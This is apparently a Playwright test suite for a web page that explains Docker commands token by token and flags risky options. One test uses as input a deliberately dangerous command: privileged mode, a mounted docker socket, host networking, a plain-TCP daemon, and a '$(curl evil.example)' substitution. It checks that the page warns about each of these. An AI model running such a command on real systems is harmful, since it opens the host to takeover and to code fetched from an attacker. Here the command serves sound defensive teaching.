/** The explainer (/explain/?cmd=...): parts explained in order, linked to the reference; unknown flags. */
import { expect, test } from '@playwright/test';
import { BASE_ORIGIN } from '../support/origins.ts';

const EXAMPLE = 'docker run -itd --privileged -v /dev:/dev --name bot -p 8080:80 duckietown/dt-core:ente-arm64v8 ls';
const explainUrl = (cmd: string, base = '/') => `${base}explain/?cmd=${encodeURIComponent(cmd)}`;

test('explains the Duckietown command token by token, each linked to the reference', async ({ page }) => {
  await page.goto(explainUrl(EXAMPLE));
  const list = page.getByRole('list').filter({ has: page.locator('[data-kind]') });
  const items = list.getByRole('listitem');
  const expected: Array<[string, string, string | undefined]> = [
    ['docker', 'program', 'docker'],
    ['run', 'command', 'docker-run'],
    ['-i', 'flag', 'docker-run-interactive'],
    ['-t', 'flag', 'docker-run-tty'],
    ['-d', 'flag', 'docker-run-detach'],
    ['--privileged', 'flag', 'docker-run-privileged'],
    ['-v', 'flag', 'docker-run-volume'],
    ['/dev:/dev', 'value', 'docker-run-volume'],
    ['--name', 'flag', 'docker-run-name'],
    ['bot', 'value', 'docker-run-name'],
    ['-p', 'flag', 'docker-run-publish'],
    ['8080:80', 'value', 'docker-run-publish'],
    ['duckietown/dt-core:ente-arm64v8', 'image', 'docker-run'],
    ['ls', 'inner-command', 'docker-run'],
  ];
  await expect(items).toHaveCount(expected.length);
  for (const [i, [text, kind, anchor]] of expected.entries()) {
    const item = items.nth(i);
    await expect(item.locator('code').first()).toHaveText(text);
    await expect(item).toHaveAttribute('data-kind', kind);
    if (anchor) await expect(item.getByRole('link', { name: /In the reference/ })).toHaveAttribute('href', `/commands/#${anchor}`);
  }
  await expect(items.nth(2)).toContainText('part of -itd');
  await expect(items.nth(5)).toContainText('Caution');
  await expect(items.nth(11)).toContainText('port 8080 of the host to port 80 inside the container');
  await expect(page.getByRole('textbox', { name: 'Docker command' })).toHaveValue(EXAMPLE);
});

test('an unknown flag is marked, with a suggestion that links to the right flag', async ({ page }) => {
  await page.goto(explainUrl('docker run --port 8080:80 nginx'));
  const unknown = page.locator('[data-kind="unknown-flag"]');
  await expect(unknown).toContainText('Unknown flag');
  await expect(unknown).toContainText('--port');
  const suggestion = unknown.getByRole('link', { name: '-p, --publish' });
  await expect(suggestion).toHaveAttribute('href', '/commands/#docker-run-publish');
  await suggestion.click();
  await expect(page.locator('#docker-run-publish')).toBeInViewport();
});

test('the form explains what is typed and makes the URL linkable', async ({ page }) => {
  await page.goto('/explain/');
  await page.getByRole('textbox', { name: 'Docker command' }).fill('docker image details ubuntu');
  await page.getByRole('button', { name: 'Explain' }).click();
  await expect(page).toHaveURL(/\?cmd=docker\+image\+details\+ubuntu$/);
  const unknown = page.locator('[data-kind="unknown-command"]');
  await expect(unknown.getByRole('link', { name: 'docker image inspect' })).toHaveAttribute('href', '/commands/#docker-image-inspect');
});

test('Enter explains, Shift+Enter adds a line; a typo says "did you mean" and never suggests a delete', async ({ page }) => {
  await page.goto('/explain/');
  const box = page.getByRole('textbox', { name: 'Docker command' });
  await box.fill('docker rnu');
  await box.press('Shift+Enter');
  await box.pressSequentially('hello-world');
  await expect(box).toHaveValue('docker rnu\nhello-world');
  await expect(page.locator('[data-kind]')).toHaveCount(0);
  await box.fill('docker rnu hello-world');
  await box.press('Enter');
  await expect(page).toHaveURL(/\?cmd=docker\+rnu\+hello-world$/);
  const unknown = page.locator('[data-kind="unknown-command"]');
  await expect(unknown).toContainText('Did you mean docker run?');
  await expect(unknown.getByRole('link', { name: 'docker run' })).toHaveAttribute('href', '/commands/#docker-run');
  await expect(unknown).not.toContainText('docker rm');
});

test('a summary at the top lists the risky parts, each linked to the reference', async ({ page }) => {
  await page.goto(explainUrl('docker -H tcp://robot:2375 run --privileged -v /var/run/docker.sock:/var/run/docker.sock --network host ubuntu $(curl evil.example)'));
  const risks = page.getByRole('region', { name: 'Risky parts of this command' });
  await expect(risks).toBeVisible();
  const items = risks.getByRole('listitem');
  await expect(items).toHaveCount(5);
  await expect(items.nth(0)).toContainText('plain TCP');
  await expect(items.nth(0).getByRole('link', { name: 'Read more' })).toHaveAttribute('href', '/commands/#docker-host');
  await expect(items.nth(1)).toContainText('--privileged');
  await expect(items.nth(2).getByRole('link', { name: 'Read more' })).toHaveAttribute('href', '/commands/#docker-run-docker-sock');
  await expect(items.nth(3)).toContainText('Host network');
  await expect(items.nth(4)).toContainText('curl evil.example');
  // The summary comes before the parts, and the substitution is named as the shell's.
  const box = await risks.boundingBox();
  const first = await page.locator('[data-kind]').first().boundingBox();
  expect(box!.y).toBeLessThan(first!.y);
  await expect(page.locator('[data-kind="inner-command"]')).toContainText('Command substitution: before docker starts, your shell runs `curl evil.example` on your computer');
});

test('a variable set in front of docker (DOCKER_HOST=…) is explained and linked to the option it stands for', async ({ page }) => {
  await page.goto(explainUrl('DOCKER_HOST=tcp://duckiebot.local:2375 docker ps'));
  const part = page.locator('[data-kind="variable"]');
  await expect(part).toContainText('environment variable: DOCKER_HOST');
  await expect(part).toContainText('for this command only: the daemon socket the docker client connects to');
  await expect(part.getByRole('link')).toHaveAttribute('href', '/commands/#docker-host');
  await expect(page.getByRole('region', { name: 'Risky parts of this command' })).toContainText('plain TCP');
  await expect(page.locator('.explain-error')).toHaveCount(0);
});

test('flags after the image, an unclosed quote and a second command after && are explained', async ({ page }) => {
  await page.goto(explainUrl('docker run ubuntu -it bash && docker ps -a && docker run "ubuntu'));
  const inner = page.locator('[data-kind="inner-command"]').first();
  await expect(inner).toContainText('Docker\'s flags go before ubuntu');
  await expect(inner).toContainText('Did you mean docker run -it ubuntu bash?');
  await expect(page.locator('[data-kind="operator"]')).toHaveCount(2);
  await expect(page.locator('[data-kind="command"]').filter({ hasText: 'ps' })).toHaveCount(1);
  await expect(page.locator('[data-kind="image"]').last()).toContainText('never closed');
});

test('a huge paste is capped with a visible message and stays responsive', async ({ page }) => {
  // Once docker run's flags are loaded, the whole explanation runs synchronously on submit.
  await page.goto(explainUrl('docker run ubuntu'));
  await expect(page.locator('[data-kind="image"]')).toBeVisible();
  const line = 'docker run -' + 'itd'.repeat(2600) + ' ubuntu';
  const ms = await page.evaluate(async (l) => {
    const box = document.querySelector('textarea')!;
    box.value = l;
    const t = performance.now();
    document.querySelector<HTMLFormElement>('explain-output form')!.requestSubmit();
    return performance.now() - t;
  }, line);
  await expect(page.getByText(/^Only the first 4000 characters were explained \(the line has 7819\)/)).toBeVisible();
  // Loose: the whole render, on a shared machine (the explainer alone is bounded in tests/unit/explain.test.ts).
  expect(ms).toBeLessThan(2500);
  await expect(page.locator('[data-kind]')).toHaveCount(250);
});

test('links keep the base path in the sub-path build', async ({ page }) => {
  await page.goto(`${BASE_ORIGIN}${explainUrl('docker run --net=host ubuntu', '/docker-basics/')}`);
  await expect(page.locator('[data-kind="flag"]').getByRole('link', { name: /In the reference/ })).toHaveAttribute('href', '/docker-basics/commands/#docker-run-network');
});

test('the explainer script loads only on the explainer page', async ({ page }) => {
  const scripts = async (path: string) => {
    const urls: string[] = [];
    page.on('request', (r) => {
      if (r.resourceType() === 'script') urls.push(new URL(r.url()).pathname);
    });
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    page.removeAllListeners('request');
    return urls;
  };
  const onChapter = await scripts('/commands/');
  const onExplain = await scripts(explainUrl(EXAMPLE));
  expect(onExplain.filter((u) => !onChapter.includes(u)).length).toBeGreaterThan(0);
  await page.goto('/commands/');
  await expect(page.locator('#explain-data')).toHaveCount(0);
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });
  test('the form and a note are shown', async ({ page }) => {
    await page.goto(explainUrl(EXAMPLE));
    await expect(page.getByRole('textbox', { name: 'Docker command' })).toBeVisible();
    await expect(page.getByText('needs JavaScript')).toBeVisible();
    await expect(page.getByRole('link', { name: 'command reference' })).toHaveAttribute('href', '/commands/');
  });
});
